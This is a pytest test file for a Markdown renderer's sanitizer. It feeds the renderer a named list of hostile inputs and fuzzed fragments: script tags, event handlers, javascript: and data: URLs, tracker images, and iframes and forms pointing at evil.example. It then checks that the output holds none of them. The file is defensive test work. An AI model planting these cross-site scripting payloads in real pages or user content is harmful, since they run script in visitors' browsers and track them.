"""The sanitizing Markdown renderer: hostile input leaves no script and no remote load."""

from __future__ import annotations

import re
import sys
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

sys.path.insert(0, str(Path(__file__).parent))

from buildkit import LOADING_ATTRIBUTES, Tags, remote  # noqa: E402

from livret.publish.markdown import local_url, render_markdown, sanitize_html, sanitize_page  # noqa: E402

#: Markdown a malicious or careless writer could type in an entry.
HOSTILE = {
    "script tag": "Bonjour <script>alert('x')</script> fin",
    "script in paragraph block": "<script src=\"https://evil.example/x.js\"></script>",
    "event handler": '<img src="files/a.png" onerror="alert(1)"> <b onclick="alert(2)">gras</b>',
    "svg onload": '<svg onload="alert(1)"><circle r="4"/></svg>',
    "svg with script": "<svg><script>alert(1)</script><a xlink:href=\"javascript:alert(1)\"><text>t</text></a></svg>",
    "javascript link": "[clic](javascript:alert(1)) <a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "javascript with entity": '<a href="java&#x09;script:alert(1)">y</a> <a href="&#106;avascript:alert(1)">z</a>',
    "data url link": "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data url image": "![d](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "remote image": "![pixel](https://tracker.example/p.gif) <img src=\"//tracker.example/p.gif\">",
    "backslash host": '<img src="/\\tracker.example/p.gif"> <img src="/	/tracker.example/p.gif">',
    "css url in style attribute": '<p style="background:url(https://tracker.example/p.gif)">s</p>',
    "style element": "<style>@import url(https://evil.example/x.css); body{background:url(//e/x)}</style>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "object and embed": '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">',
    "form": '<form action="https://evil.example"><input name="p"><button>ok</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "base tag": '<base href="https://evil.example/">',
    "mermaid": '<pre class="mermaid">graph TD; A-->B</pre>\n\n```mermaid\ngraph TD\n```',
    "template and noscript": "<template><script>alert(1)</script></template><noscript><img src=x></noscript>",
    "unclosed": "<div><p>début <b>gras",
    "comment": "<!-- <script>alert(1)</script> -->visible",
    "srcset": '<img srcset="https://tracker.example/a.png 1x" src="files/a.png">',
}
_ALLOWED_SCHEMES = ("http:", "https:", "mailto:", "tel:")
_SCHEME = re.compile(r"^\s*[a-zA-Z][a-zA-Z0-9+.-]*:")


def assert_inert(html: str) -> None:
    """No executable script, handler, dangerous URL, frame, form, style or remote load."""
    parser = Tags()
    parser.feed(html)
    parser.close()
    for tag, attrs in parser.tags:
        assert tag not in {"script", "style", "iframe", "object", "embed", "form", "input", "button", "meta",
                           "link", "base", "template", "frame", "frameset", "noscript"}, (tag, html)
        for key, value in attrs.items():
            assert not key.startswith("on"), (tag, key, html)
            assert key not in ("style", "srcset", "xlink:href", "formaction", "action"), (tag, key, html)
            if (tag, key) in LOADING_ATTRIBUTES:
                assert value is not None and not remote(value), (tag, key, value)
            scheme = _SCHEME.match(value or "")
            if key == "href" and scheme:
                assert scheme.group(0).lower() in _ALLOWED_SCHEMES, (tag, key, value)
            if key == "class" and value:
                assert "mermaid" not in value.split(), html
            squeezed = "".join(ch for ch in (value or "") if ch.isprintable() and not ch.isspace()).lower()
            assert not squeezed.startswith(("javascript:", "data:", "vbscript:")), (tag, key, value)


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_markdown_is_inert(name):
    html = render_markdown(HOSTILE[name])
    assert_inert(html)
    assert_inert(sanitize_page(html))


def test_hostile_html_through_the_page_policy_is_inert():
    """The page policy (what the build runs on whole pages) blocks the same things on raw HTML."""
    for text in HOSTILE.values():
        assert_inert(sanitize_page(text))


def test_formatting_survives():
    html = render_markdown(
        "# Titre\n\nDu **gras**, de l'*italique*, ~~barré~~, `code`.\n\n- un\n- deux\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n[lien](https://example.org) et https://exemple.fr/page\n\n"
        "```python\nx = 1\n```\n\nligne 1\nligne 2"
    )
    for fragment in ("<h1>Titre</h1>", "<strong>gras</strong>", "<em>italique</em>", "<del>barré</del>",
                     "<code>code</code>", "<li>un</li>", "<table>", "<td>1</td>",
                     '<a href="https://example.org" rel="noopener noreferrer nofollow">lien</a>',
                     'href="https://exemple.fr/page"', '<code class="language-python">', "ligne 1<br>"):
        assert fragment in html, fragment


def test_attachment_links_get_the_page_prefix():
    html = render_markdown("![photo](files/ab12cd34-photo.png) [pdf](files/x.pdf) [ancre](#haut)", base="../../")
    assert 'src="../../files/ab12cd34-photo.png"' in html
    assert 'href="../../files/x.pdf"' in html
    assert 'href="#haut"' in html


def test_text_is_escaped_not_interpreted():
    html = render_markdown("a < b && c > d")
    assert "a &lt; b &amp;&amp; c &gt; d" in html


def test_sanitize_html_matches_render_policy():
    assert sanitize_html('<a href="files/x.pdf" onclick="x">f</a>', base="../") == \
        '<a href="../files/x.pdf" rel="noopener noreferrer nofollow">f</a>'


def test_page_policy_keeps_chart_svg_and_structure():
    svg = ('<svg class="livret-chart" viewBox="0 0 10 10" role="img" aria-labelledby="c-title">'
           '<title id="c-title">T</title><rect x="1" y="2" width="3" height="4" fill="#2e7d32"/>'
           '<polyline points="0,0 1,1" fill="none" stroke="#000" stroke-width="2"/>'
           '<text x="1" y="1" text-anchor="end" font-size="11">5</text></svg>'
           '<details class="livret-version" open><summary>s</summary></details>')
    out = sanitize_page(svg)
    for fragment in ('viewBox="0 0 10 10"', 'aria-labelledby="c-title"', 'fill="#2e7d32"', 'points="0,0 1,1"',
                     'text-anchor="end"', '<title id="c-title">T</title>', '<details class="livret-version" open'):
        assert fragment in out, fragment


def test_page_policy_drops_paint_servers_from_elsewhere():
    out = sanitize_page('<svg><rect fill="url(https://evil.example/p.svg#g)" stroke="url(#local)"/></svg>')
    assert "url(" not in out


@pytest.mark.parametrize("value,ok", [
    ("files/a.png", True), ("../../files/a.png", True), ("a.png", True), ("/site/a.png", True),
    ("https://e.example/a.png", False), ("//e.example/a.png", False), ("/\\e.example/a.png", False),
    ("\\\\e.example\\a.png", False), ("/\t/e.example/a.png", False), ("data:image/png;base64,AA", False),
    ("javascript:alert(1)", False), ("", False), (" files/a.png", False),
])
def test_local_url(value, ok):
    assert local_url(value) is ok


_FRAGMENTS = st.sampled_from([
    "<script>", "</script>", "<img src=", "onerror=", "javascript:", "<svg", "onload=", "<a href=\"", "\"", "'",
    ">", "<", "![x](", "[y](", ")", "https://t.example/p.gif", "//t.example/", "data:text/html,", "<style>",
    "url(", "<iframe", "&#106;", "\n\n", "**", "`", "<!--", "-->", "<p ", "style=", "<form", " ", "x",
])


@settings(max_examples=300, deadline=None)
@given(st.lists(_FRAGMENTS, min_size=1, max_size=40).map("".join))
def test_any_mix_of_hostile_fragments_is_inert(text):
    assert_inert(render_markdown(text))
